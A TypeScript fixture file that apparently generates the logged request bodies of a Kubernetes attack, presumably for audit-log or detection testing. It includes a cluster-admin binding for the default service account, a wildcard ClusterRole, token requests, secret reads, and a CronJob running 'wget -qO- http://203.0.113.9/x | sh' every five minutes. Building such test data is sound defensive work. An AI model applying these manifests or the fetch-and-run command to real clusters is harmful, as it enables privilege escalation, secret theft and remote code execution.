// Bodies of the requests of an attack, in the sizes that an API server logs.
import { keyed, metadata, type Names, text } from './audit-objects.ts';

/** A list of one secret as the API server answers kubectl: a table, with a description of each column. */
export const secretTable = (names: Names): object => ({
  kind: 'Table',
  apiVersion: 'meta.k8s.io/v1',
  metadata: { resourceVersion: String(names.seed) },
  columnDefinitions: ['Name', 'Type', 'Data', 'Age'].map((name) => ({
    name,
    type: 'string',
    format: name === 'Name' ? 'name' : '',
    description: `${name} of the object. ${'Is told to each client in a few sentences of this length. '.repeat(5)}`,
    priority: 0,
  })),
  rows: [
    {
      cells: ['database', 'Opaque', 1, '15s'],
      object: {
        kind: 'PartialObjectMetadata',
        apiVersion: 'meta.k8s.io/v1',
        metadata: metadata(names, { 'f:stringData': keyed('f:', ['password']) }, 'kubectl'),
      },
    },
  ],
});

export const secret = (names: Names): object => ({
  kind: 'Secret',
  apiVersion: 'v1',
  metadata: metadata(names, { 'f:data': keyed('f:', ['password']), 'f:type': {} }, 'kubectl'),
  data: { password: text(names.seed, 32) },
  type: 'Opaque',
});

export const clusterAdminBinding = (names: Names): object => ({
  kind: 'ClusterRoleBinding',
  apiVersion: 'rbac.authorization.k8s.io/v1',
  metadata: metadata(names, { 'f:roleRef': {}, 'f:subjects': {} }, 'kubectl-create'),
  subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: names.namespace }],
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
});

export const wildcardRole = (names: Names): object => ({
  kind: 'ClusterRole',
  apiVersion: 'rbac.authorization.k8s.io/v1',
  metadata: metadata(names, { 'f:rules': {} }, 'kubectl-create'),
  rules: [
    { verbs: ['*'], apiGroups: ['*'], resources: ['*'] },
    { verbs: ['*'], nonResourceURLs: ['*'] },
  ],
});

export const tokenAsked = (): object => ({
  kind: 'TokenRequest',
  apiVersion: 'authentication.k8s.io/v1',
  metadata: {},
  spec: { audiences: null, expirationSeconds: 3600, boundObjectRef: null },
  status: { token: '', expirationTimestamp: null },
});

export const tokenAnswered = (names: Names): object => ({
  kind: 'TokenRequest',
  apiVersion: 'authentication.k8s.io/v1',
  metadata: metadata(names, { 'f:spec': keyed('f:', ['expirationSeconds']) }, 'kubectl'),
  spec: {
    audiences: ['https://kubernetes.default.svc.cluster.local'],
    expirationSeconds: 3600,
    boundObjectRef: null,
  },
  status: { token: text(names.seed, 900), expirationTimestamp: '2026-05-04T12:00:00Z' },
});

export const cronJobThatDownloads = (names: Names): object => ({
  kind: 'CronJob',
  apiVersion: 'batch/v1',
  metadata: metadata(names, { 'f:spec': keyed('f:', ['schedule', 'jobTemplate']) }, 'kubectl-create'),
  spec: {
    schedule: '*/5 * * * *',
    concurrencyPolicy: 'Allow',
    suspend: false,
    jobTemplate: {
      metadata: {},
      spec: {
        template: {
          metadata: {},
          spec: {
            containers: [
              {
                name: 'main',
                image: 'docker.io/library/busybox:1',
                command: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh'],
                resources: {},
                terminationMessagePath: '/dev/termination-log',
                terminationMessagePolicy: 'File',
                imagePullPolicy: 'IfNotPresent',
              },
            ],
            restartPolicy: 'OnFailure',
            terminationGracePeriodSeconds: 30,
            dnsPolicy: 'ClusterFirst',
            securityContext: {},
            schedulerName: 'default-scheduler',
          },
        },
      },
    },
    successfulJobsHistoryLimit: 3,
    failedJobsHistoryLimit: 1,
  },
  status: {},
});
